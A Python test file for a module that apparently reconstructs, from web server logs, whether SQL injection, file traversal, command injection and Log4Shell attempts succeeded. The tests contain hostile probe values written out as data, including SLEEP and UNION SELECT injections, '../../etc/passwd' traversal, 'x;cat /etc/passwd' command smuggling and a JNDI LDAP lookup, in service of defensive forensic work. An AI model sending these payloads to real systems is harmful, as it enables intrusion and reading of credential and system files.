import random

import pytest

from delicti.reconstruct.outcomes import Normal, Probe, judge

SUCCEEDED, FAILED, UNKNOWN = "succeeded", "failed", "unknown"


def pairs(yes, no, values=("3 AND 1=1", "3 AND 2=2", "3 AND 1=2", "3 AND 4=9")):
    return [Probe(value, *(yes if value[-1] == value[-3] else no)) for value in values]


NORMAL = Normal(answers=frozenset({(200, 1290)}), exact={"3": frozenset({(200, 1290)})})


def test_conditions_that_decide_the_page_show_an_injection():
    assert judge("sqli", pairs((200, 1290), (404, 997)), NORMAL).outcome == SUCCEEDED


def test_conditions_that_the_page_ignores_show_a_failure():
    assert judge("sqli", pairs((200, 1290), (200, 1290)), NORMAL).outcome == FAILED


def test_a_block_page_for_false_conditions_shows_no_injection():
    assert judge("sqli", pairs((200, 1290), (403, 287)), NORMAL).outcome != SUCCEEDED


def test_a_block_page_answering_200_to_every_probe_shows_a_failure():
    assert judge("sqli", pairs((200, 2110), (200, 2110)), NORMAL).outcome == FAILED


def test_a_page_that_repeats_the_value_shows_a_failure():
    values = [f"lamp' AND {n}={n + n % 2} AND '{'x' * (n % 9)}'='{'x' * (n % 9)}" for n in range(40)]
    probes = [Probe(value, 200, 1000 + 2 * len(value) + 5 * value.count("'")) for value in values]
    assert judge("sqli", probes, Normal(answers=frozenset({(200, 1040), (200, 1100)}))).outcome == FAILED


def test_alike_answers_to_values_of_one_length_leave_it_open_where_plain_values_get_less():
    probes = [Probe(f"-7 UNION SELECT a,b FROM people LIMIT 5 OFFSET {n}", 200, 1945) for n in (10, 20, 30)]
    probes += [Probe("-7 UNION SELECT a,b FROM people LIMIT 5 OFFSET 0", 200, 1938)]
    known = Normal(answers=frozenset({(200, 1749)}), exact={"7": frozenset({(200, 1749)})})
    assert judge("sqli", probes, known).outcome == UNKNOWN


def test_one_pair_alone_needs_the_normal_page_of_the_same_value():
    probes = [Probe("3 AND 1=1", 200, 1500), Probe("3 AND 1=2", 404, 997)]
    assert judge("sqli", probes, NORMAL).outcome != SUCCEEDED


def union(right, answer, wrong):
    return [
        Probe(f"3 UNION ALL SELECT {','.join(['NULL'] * n)}-- -", *(answer if n == right else wrong))
        for n in range(1, 9)
    ]


def test_one_number_of_columns_that_answers_shows_an_injection():
    assert judge("sqli", union(5, (200, 1363), (500, 295)), NORMAL).outcome == SUCCEEDED


def test_no_number_of_columns_that_answers_shows_none():
    assert judge("sqli", union(0, (200, 1363), (500, 295)), NORMAL).outcome != SUCCEEDED


def test_refusals_of_some_numbers_of_columns_show_none():
    assert judge("sqli", union(5, (200, 1363), (403, 295)), NORMAL).outcome != SUCCEEDED


def order(good, page, broken):
    return [Probe(f"3 ORDER BY {n}-- -", *(page if n <= good else broken)) for n in (1, 10, 6, 4, 5)]


def test_ordering_that_fails_beyond_a_column_shows_an_injection():
    assert judge("sqli", order(5, (200, 1290), (500, 295)), NORMAL).outcome == SUCCEEDED


def test_ordering_that_always_fails_shows_none():
    assert judge("sqli", order(0, (200, 1290), (500, 295)), NORMAL).outcome == UNKNOWN


def delays(took):
    return [
        Probe("3 AND SLEEP(5)", 200, 1290, took),
        Probe("3 AND SLEEP(2)", 200, 1290, took and took - 3),
        Probe("3 AND 1=1", 200, 1290, 0.1),
    ]


def test_answers_that_wait_as_told_show_an_injection():
    assert judge("sqli", delays(5.1), NORMAL).outcome == SUCCEEDED


def test_a_time_out_that_looks_like_a_delay_shows_none():
    probes = [Probe(f"3 AND SLEEP({n})", 504, 160, 30.0) for n in (5, 9, 30)] + [Probe("3 AND 1=1", 200, 1290, 0.1)]
    assert judge("sqli", probes, NORMAL).outcome != SUCCEEDED


def test_a_slow_site_shows_no_delay():
    probes = [
        Probe("3 AND SLEEP(5)", 200, 1290, 5.2),
        Probe("3 AND SLEEP(5)", 200, 1290, 5.3),
        Probe("3 AND 1=1", 200, 1290, 5.1),
    ]
    assert judge("sqli", probes, NORMAL).outcome != SUCCEEDED


FILES = ("../index.php", "../../etc/passwd", "../../etc/hosts", "../config.php")


def test_files_with_sizes_of_their_own_show_a_traversal():
    probes = [Probe(value, 200, size) for value, size in zip(FILES, (598, 1543, 268, 366), strict=True)]
    assert judge("lfi", probes, Normal(missing=frozenset({(404, 182)}))).outcome == SUCCEEDED


def test_a_soft_404_for_every_file_shows_a_failure():
    assert judge("lfi", [Probe(value, 200, 2110) for value in FILES], Normal()).outcome == FAILED


def test_a_catch_all_page_that_repeats_the_name_shows_a_failure():
    probes = [Probe(value * n, 200, 900 + len(value * n)) for n in (1, 2, 3) for value in FILES]
    assert judge("lfi", probes, Normal()).outcome == FAILED


def test_one_page_without_a_contrast_stays_unknown():
    assert (
        judge("lfi", [Probe("../../etc/passwd", 200, 2319)], Normal(answers=frozenset({(200, 5000)}))).outcome
        == UNKNOWN
    )


def test_files_that_are_all_refused_show_a_failure():
    assert judge("lfi", [Probe(value, 404, 182) for value in FILES], Normal()).outcome == FAILED


def test_a_lookup_that_the_page_ignores_stays_unknown():
    probes = [Probe("${jndi:ldap://192.0.2.1/a}", 200, 2787)]
    assert judge("log4shell", probes, Normal(answers=frozenset({(200, 2787)}))).outcome == UNKNOWN


def test_probes_without_a_status_stay_unknown():
    assert judge("sqli", [Probe("3 AND 1=1", None, None)], Normal()).outcome == UNKNOWN


@pytest.mark.parametrize("cls", ["sqli", "lfi", "rce"])
@pytest.mark.parametrize("seed", range(40))
def test_a_site_that_answers_at_random_never_shows_success(cls, seed):
    draw = random.Random(seed)
    values = [
        *(p.value for p in union(0, (200, 1), (200, 1))),
        *(p.value for p in order(0, (200, 1), (200, 1))),
        *FILES,
        *FILES,
        "3 AND 1=1",
        "3 AND 1=2",
        "; id",
        "; ls",
        "; id",
    ]
    probes = [Probe(value, draw.choice((200, 200, 404, 500)), draw.randrange(500, 30000)) for value in values * 2]
    answers = frozenset((200, draw.randrange(500, 30000)) for _ in range(50))
    assert judge(cls, probes, Normal(answers=answers)).outcome != SUCCEEDED


def test_what_a_tool_sends_in_bodies_makes_an_attack_of_unknown_outcome(evidence, role):
    evidence.crowd()
    for number in range(60):
        evidence.ask(
            9000 + number, "203.0.113.5", "/quote", 200, 900 + number, method="POST", agent="sqlmap/1.9#stable"
        )
    story = evidence.story()
    assert story.episodes.select("kind", "outcome").rows() == [("exploitation", "unknown")]


def paged(sizes):
    return [Probe(f"-3 UNION SELECT 1,name,3 FROM people LIMIT {n * 5},5", 200, size) for n, size in enumerate(sizes)]


STEADY = Normal(proven_steady=True, exact={"-3": frozenset({(404, 997)})})


def test_pages_of_their_own_for_other_rows_show_an_injection():
    assert judge("sqli", paged((1723, 1761, 1690, 1840, 1755)), STEADY).outcome == SUCCEEDED


def test_pages_that_vary_anyway_show_none():
    assert judge("sqli", paged((1723, 1761, 1690, 1840, 1755)), Normal()).outcome == UNKNOWN


def test_one_page_for_all_rows_shows_none():
    assert judge("sqli", paged((1723,) * 5), STEADY).outcome == FAILED


COMMANDS = (("mirror;id", 54), ("x;uname -a", 112), ("x;ls -la /srv", 380), ("x;cat /etc/passwd", 1710), ("x;pwd", 21))
ONE_PAGE = {f"mirror{n}": frozenset({(200, 69)}) for n in range(4)}


def test_commands_with_sizes_of_their_own_show_success_where_all_harmless_values_get_one_page():
    probes = [Probe(value, 200, 69 + size) for value, size in COMMANDS]
    known = Normal(answers=frozenset({(200, 69)}), exact=ONE_PAGE, proven_steady=True)
    assert judge("rce", probes, known).outcome == SUCCEEDED


def test_commands_answered_with_the_harmless_page_show_no_success():
    probes = [Probe(value, 200, 69) for value, _ in COMMANDS]
    known = Normal(answers=frozenset({(200, 69)}), exact=ONE_PAGE, proven_steady=True)
    assert judge("rce", probes, known).outcome == UNKNOWN


def test_commands_that_a_page_repeats_show_no_success():
    probes = [Probe(value, 200, 69 + 2 * len(value)) for value, _ in COMMANDS]
    known = Normal(answers=frozenset({(200, 69)}), exact=ONE_PAGE, proven_steady=True)
    assert judge("rce", probes, known).outcome == UNKNOWN
